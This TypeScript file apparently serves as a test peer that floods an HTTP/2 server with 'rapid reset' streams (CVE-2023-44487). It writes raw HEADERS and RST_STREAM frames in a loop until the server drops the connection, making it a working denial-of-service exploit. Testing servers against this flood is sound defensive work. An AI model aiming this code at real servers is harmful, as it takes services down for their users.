/**
 * An HTTP/2 peer that opens streams and resets each at once ("rapid reset", CVE-2023-44487). It writes frames itself:
 * a client library would bound itself, or not send what was reset before it was written.
 */
import { readFileSync } from 'node:fs';
import { connect, type TLSSocket } from 'node:tls';

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const END_STREAM_AND_HEADERS = 0x05;
const CANCEL = 8;
const RESETS_PER_WRITE = 50;

/** Floods until the server closes the connection; resolves with the number of resets written until then. */
export function floodWithResets(url: string, ca: string, path: string): Promise<number> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    let resets = 0;
    let isClosed = false;
    const socket = connect({
      host: hostname,
      port: Number(port),
      ca: readFileSync(ca),
      ALPNProtocols: ['h2'],
    });
    // A server that closes while more data is on its way resets the connection, which is an end too.
    socket.on('error', (error: NodeJS.ErrnoException) => {
      if (error.code !== 'ECONNRESET' && error.code !== 'EPIPE') reject(error);
    });
    socket.on('close', () => {
      isClosed = true;
      resolve(resets);
    });
    socket.once('secureConnect', () => {
      socket.write(Buffer.concat([Buffer.from(PREFACE), frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
      flood();
    });
    socket.resume();

    function flood(): void {
      if (isClosed) return;
      const frames: Buffer[] = [];
      for (let i = 0; i < RESETS_PER_WRITE; i++, resets++) {
        const stream = 2 * resets + 1;
        frames.push(frame(HEADERS, END_STREAM_AND_HEADERS, stream, requestBlock(path)));
        frames.push(frame(RST_STREAM, 0, stream, uint32(CANCEL)));
      }
      writeThen(socket, Buffer.concat(frames), flood);
    }
  });
}

function writeThen(socket: TLSSocket, bytes: Buffer, next: () => void): void {
  if (socket.write(bytes)) setImmediate(next);
  else socket.once('drain', next);
}

/** [spec] RFC 9113, 4.1. */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** [spec] RFC 7541: `:method: GET` and `:scheme: https` by their index, `:path` and `:authority` as literals. */
function requestBlock(path: string): Buffer {
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(4, path), literal(1, 'localhost')]);
}

function literal(nameIndex: number, value: string): Buffer {
  return Buffer.concat([Buffer.from([nameIndex, value.length]), Buffer.from(value)]);
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}
